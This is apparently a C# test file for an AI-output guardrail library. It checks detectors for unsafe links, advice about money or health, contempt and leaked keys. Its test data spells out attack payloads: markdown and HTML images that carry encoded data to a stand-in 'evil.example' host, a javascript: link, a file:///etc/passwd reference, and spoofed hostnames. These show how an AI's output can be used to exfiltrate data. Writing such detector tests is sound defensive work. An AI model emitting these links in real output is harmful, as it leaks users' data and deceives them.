using Axle.Guardrails.Output;

namespace Axle.Guardrails.Tests.Output;

public sealed class OutputRuleTests
{
    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8)", "picture-with-data")]
    [InlineData("<img src=\"https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8\">", "picture-with-data")]
    [InlineData("Click [here](javascript:alert(1)).", "dangerous-scheme")]
    [InlineData("See file:///etc/passwd for more.", "dangerous-scheme")]
    [InlineData("Go to https://bank.example@evil.example/login now.", "hidden-host")]
    [InlineData("Go to https://xn--bnk-5cd.example/ now.", "hidden-host")]
    [InlineData("Go to [https://bank.example](https://evil.example/login).", "misleading-link")]
    [InlineData("![x](//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8)", "picture-with-data")]
    [InlineData("![x]( <https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>)", "picture-with-data")]
    [InlineData("<img alt=x src = '//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8'>", "picture-with-data")]
    [InlineData("<img src=\\\\evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>", "picture-with-data")]
    [InlineData("![x][1] is it.\n\n[1]: https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8", "picture-with-data")]
    [InlineData("![x]\n\n  [x]:\n  <//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>", "picture-with-data")]
    [InlineData("Go to [https://bank.example](//evil.example/login).", "misleading-link")]
    public void Links_that_harm_are_found(string text, string reason) => new UnsafeLinks([]).Find(text).ShouldHaveSingleItem().Reason.ShouldBe(reason);

    [Theory]
    [InlineData("See [the docs](https://docs.example.com/a?b=1) or https://example.com/x?page=2&sort=up.")]
    [InlineData("![logo](https://example.com/logo.png) and ![v](https://example.com/l.png?v=2)")]
    [InlineData("[docs.example.com](https://docs.example.com/start)")]
    [InlineData("At 10:30: note: the ratio is 3:1, see std::vector and http://127.0.0.1:8080/.")]
    [InlineData("[1]: https://docs.example.com/a?b=1\n[docs.example.com](//docs.example.com/start) // a comment, a path C:\\\\x and a//b")]
    public void Links_that_do_not_are_left_alone(string text) => new UnsafeLinks([]).Find(text).ShouldBeEmpty();

    [Theory]
    [InlineData("Schemes such as http:, https: and ftp")]
    [InlineData("It begins with https:.")]
    [InlineData("http:/")]
    public void A_scheme_that_is_only_spoken_of_is_no_link(string text) => new UnsafeLinks(["example.com"]).Find(text).ShouldBeEmpty();

    [Fact]
    public void An_address_without_slashes_leads_to_its_host() => new UnsafeLinks(["example.com"]).Find("https:evil.test/x").ShouldHaveSingleItem();

    [Fact]
    public void Where_hosts_are_named_links_lead_to_them_and_nowhere_else()
    {
        var links = new UnsafeLinks(["example.com"]);
        links.Find("https://docs.example.com/a and https://example.com").ShouldBeEmpty();
        links.Find("https://notexample.com/ and https://example.com.evil.test/").Count.ShouldBe(2);
        links.Find("[a](//docs.example.com/a) // evil.test").ShouldBeEmpty();
        links.Find("[a](//evil.test/a) <a href=\"//evil.test\">b</a> and\n[c]: //evil.test/c").Count.ShouldBe(3);
    }

    [Theory]
    [InlineData("[")]
    [InlineData("![")]
    [InlineData("\n[")]
    [InlineData("<img ")]
    [InlineData("href=")]
    [InlineData("](//")]
    public void A_text_of_nothing_but_openings_is_read_in_its_time(string opening) =>
        new UnsafeLinks([]).Find(string.Concat(Enumerable.Repeat(opening, 4_000 / opening.Length)) + " see https://example.com/").ShouldBeEmpty();

    [Fact]
    public void Phrases_are_whole_words_in_any_case_and_over_line_breaks()
    {
        var phrases = new Phrases(["Acme", "Big Corp"], "topic");
        phrases.Find("ACME's plan, big\n corp, acme.").Select(static s => s.Start).ShouldBe([0, 13, 24]);
        phrases.Find("Acmeology and bigcorp").ShouldBeEmpty();
    }

    [Theory]
    [InlineData("You should buy more shares of it.")]
    [InlineData("I'd recommend putting your savings into this fund.")]
    [InlineData("It gives guaranteed returns every year.")]
    public void Advice_about_money_is_found_as_a_whole_sentence(string text) =>
        Sentences.FinancialAdvice.Find($"First. {text} Last.").ShouldHaveSingleItem().ShouldBe(new OutputSpan(7, 7 + text.Length, "financial-advice"));

    [Theory]
    [InlineData("The company sold shares last year.")]
    [InlineData("You should ask your bank about a mortgage.")]
    [InlineData("You should buy milk.")]
    public void Talk_about_money_is_no_advice(string text) => Sentences.FinancialAdvice.Find(text).ShouldBeEmpty();

    [Theory]
    [InlineData("You should stop taking your medication.", 1)]
    [InlineData("Take 400 mg every six hours.", 1)]
    [InlineData("You probably have diabetes.", 1)]
    [InlineData("Ask your doctor about the dose.", 0)]
    [InlineData("You should take a break.", 0)]
    [InlineData("You have a meeting about diabetes research.", 0)]
    public void Advice_about_health_is_told_from_talk_about_it(string text, int found) => Sentences.MedicalAdvice.Find(text).Count.ShouldBe(found);

    [Theory]
    [InlineData("You are an idiot.", 1)]
    [InlineData("What a stupid question.", 1)]
    [InlineData("It is a good question.", 0)]
    public void Contempt_is_found(string text, int found) => Sentences.Contempt.Find(text).Count.ShouldBe(found);

    [Fact]
    public void Keys_are_found_and_prose_about_them_is_not()
    {
        Leaks.OfSecrets().Find("Use ghp_0123456789abcdefghijABCDEFGHIJ012345 there.").ShouldHaveSingleItem().Reason.ShouldBe("secret-secret");
        Leaks.OfSecrets().Find("Set your API key in the environment. The password is kept in the vault.").ShouldBeEmpty();
    }
}
